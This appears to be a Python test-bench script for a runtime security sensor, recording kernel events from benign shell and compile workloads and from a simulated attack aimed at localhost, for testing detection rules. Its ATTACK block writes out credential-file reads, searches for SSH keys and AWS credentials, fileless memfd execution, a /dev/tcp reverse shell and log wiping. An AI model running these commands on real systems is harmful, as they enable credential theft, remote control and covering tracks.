"""Records what `rules_eval` measures with: a shell session, a compile, and the behaviours that rules look for.

Run as root where probes work: `python -m tests.bench.record_events OUT.jsonl.gz`. Everything it does is harmless
and stays on this machine: files below a temporary directory, connections to 127.0.0.1. Only events of the
workload's own processes are kept, without their environment, and as if a person had signed in and typed it.
"""

import gzip
import random
import subprocess
import sys
import tempfile
import threading
from pathlib import Path
from typing import Any

import orjson

from sensor.context.processes import Processes
from sensor.probes.ebpf import KernelSource
from sensor.sources.recording import recorded

WANTED = 10_000
OPENS = frozenset({"open", "openat", "openat2"})

SESSION = r"""
cd "$1"
for round in 1 2 3 4 5 6; do
  ls -la /etc > listing; cat /etc/hostname /etc/os-release > names; grep -r root /etc/passwd > found
  find /usr/share/doc -maxdepth 1 -name 'a*' > docs; sort docs | uniq -c | head -5 > top
  id; whoami; uname -a; date; env | sort | tail -3; ps aux | wc -l; df -h | tail -1; stat /etc/passwd
  mkdir -p a/b/c; touch a/b/c/file; cp a/b/c/file a/copy; mv a/copy a/moved; ln -sf moved a/link; rm -rf a
  python3 -c 'print(sum(range(10)))'; awk 'BEGIN { print 1 }'; sed -n 1p names
  tar cf names.tar names; gzip -f names.tar; git --version; bash -c 'true'; sh -c 'exit 0'
  for name in one two three four five six seven eight nine ten; do
    /bin/true; basename /tmp/$name; dirname /tmp/$name; expr 1 + 1; wc -c names
  done
done >/dev/null 2>&1
"""
COMPILE = r"""
cd "$1"
for part in one two three four; do
  { printf '#include <%s.h>\n' stdio stdlib string
    printf 'int %s(void) { return puts("%s"); }\n' $part $part; } > $part.c
  gcc -O1 -c $part.c -o $part.o
done
printf 'int one(void); int two(void); int main(void) { return one() + two(); }\n' > main.c
gcc -o program main.c one.o two.o three.o four.o
./program >/dev/null
"""
ATTACK = r"""
cd "$1"
cat /etc/shadow >/dev/null; cat /etc/sudoers >/dev/null; head -1 /etc/pam.conf >/dev/null
ln -s /etc/shadow shadow_link; ln /etc/passwd passwd_link 2>/dev/null
cp /bin/true /dev/shm/recorded_true && /dev/shm/recorded_true; rm -f /dev/shm/recorded_true
find / -maxdepth 2 -name id_rsa 2>/dev/null; grep -r 'BEGIN RSA PRIVATE' /root/.ssh 2>/dev/null
find /root -maxdepth 2 -name .aws
cat /etc/../etc/shadow >/dev/null
: > fake.log; mkdir -p log; echo x > log/auth.log; : > log/auth.log
python3 -c 'import os, ctypes
fd = os.memfd_create("recorded"); os.write(fd, open("/bin/true", "rb").read()); os.execve(fd, ["recorded"], {})'
python3 -c 'import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)'
for n in 1 2 3; do bash -c "exec 3<>/dev/tcp/127.0.0.1/$2; echo hello >&3; head -c 1 <&3" >/dev/null 2>&1; done
bash -c "exec 5<>/dev/tcp/127.0.0.1/$2; sh 0<&5 1>&5 2>&5" >/dev/null 2>&1
curl -s --max-time 1 "http://127.0.0.1:$2/" >/dev/null
python3 -c "import socket
for _ in range(130):
    with socket.create_connection(('127.0.0.1', $2)) as one: one.sendall(b'x'); one.recv(1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one: one.sendto(b'x', ('127.0.0.1', 9))"
shred -u fake.log 2>/dev/null; crontab -l >/dev/null 2>&1
"""
ECHO = r"""
import socket
server = socket.create_server(("127.0.0.1", 0))
print(server.getsockname()[1], flush=True)
while True:
    peer, _ = server.accept()
    peer.settimeout(0.2)
    try:
        peer.recv(100); peer.sendall(b"exit\n")
    except OSError:
        pass
    peer.close()
"""


ENVIRONMENT = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": "/root", "LANG": "C.UTF-8", "TERM": "xterm"}
SIGNED_IN: list[dict[str, Any]] = [
    {"pid": 702, "ppid": 701, "name": "bash", "exe": "-bash", "exepath": "/usr/bin/bash", "args": [], "sid": 702},
    {"pid": 701, "name": "sshd", "exe": "sshd: root", "exepath": "/usr/sbin/sshd", "args": [], "sid": 701},
    {"pid": 1, "name": "systemd", "exe": "/sbin/init", "exepath": "/usr/lib/systemd/systemd", "args": [], "sid": 1},
]
SCOPE = "/user.slice/user-0.slice/session-3.scope"
Recorded = dict[str, Any]


def main(out: Path) -> None:
    """Record, choose, write."""
    source = KernelSource(None, Processes())
    source.open()
    found: list[Recorded] = []
    done = threading.Event()
    reader = threading.Thread(target=_read, args=(source, found, done))
    reader.start()
    try:
        roots = _work()
    finally:
        done.set()
        reader.join()
        source.close()
    chosen = choose([event for event in found if cut(event, roots)])
    with gzip.GzipFile(out, "wb", compresslevel=9, mtime=0) as file:
        for event in chosen:
            file.write(orjson.dumps(event, option=orjson.OPT_APPEND_NEWLINE))
    print(f"{len(chosen)} of {len(found)} events, {source.lost} lost, {out.stat().st_size >> 10} KiB")


def _read(source: KernelSource, found: list[Recorded], done: threading.Event) -> None:
    """Write down every event at once: the process table goes on changing."""
    while not done.is_set():
        found.extend(recorded(event) for event in source.poll(0.2))
    found.extend(recorded(event) for event in source.poll(0.5))


def _work() -> set[int]:
    """Do it all; returns the ids of the processes that everything descends from."""
    roots: set[int] = set()
    with tempfile.TemporaryDirectory(prefix="recorded-") as directory:
        echo = subprocess.Popen(
            ["/usr/bin/python3", "-c", ECHO], stdout=subprocess.PIPE, text=True, env=ENVIRONMENT, cwd="/tmp"
        )
        roots.add(echo.pid)
        try:
            port = echo.stdout.readline().strip() if echo.stdout else ""
            for script in (SESSION, COMPILE, ATTACK, SESSION, ATTACK):
                command = ["bash", "-c", script, "session", directory, port]
                with subprocess.Popen(command, stdin=subprocess.DEVNULL, env=ENVIRONMENT, cwd="/tmp") as shell:
                    roots.add(shell.pid)
                    shell.wait(timeout=60)
        finally:
            echo.kill()
            echo.wait()
    return roots


def cut(event: Recorded, roots: set[int]) -> bool:
    """Make the event's process one of a person's session; False where it is none of the workload's."""
    event.get("args", {}).pop("env", None)
    for key in ("proc.env", "session_leader"):
        event.pop(key, None)
    chain: list[Recorded] = event.get("ancestors", [])
    pids = [event.get("proc.pid"), *(one["pid"] for one in chain)]
    root = next((at for at, pid in enumerate(pids) if pid in roots), None)
    if root is None:
        return False
    event["thread.cgroups"] = SCOPE
    for one in chain[:root]:
        one.pop("env", None)
        one["cgroups"] = SCOPE
    event["ancestors"] = [*chain[:root], *SIGNED_IN]
    return True


def choose(found: list[Recorded]) -> list[Recorded]:
    """At most WANTED events in their order: every exec, network and rare event, and common ones to fill the rest."""
    chance = random.Random(1)
    common = OPENS | {"procexit", "clone", "close", "dup2"}
    rare = [at for at, one in enumerate(found) if one["evt.type"] not in common]
    rest = [at for at, one in enumerate(found) if one["evt.type"] in common]
    keep = rare if len(rare) <= WANTED * 6 // 10 else sorted(chance.sample(rare, WANTED * 6 // 10))
    fill = sorted(chance.sample(rest, min(len(rest), WANTED - len(keep))))
    return [found[at] for at in sorted([*keep, *fill])]


if __name__ == "__main__":
    main(Path(sys.argv[1]))
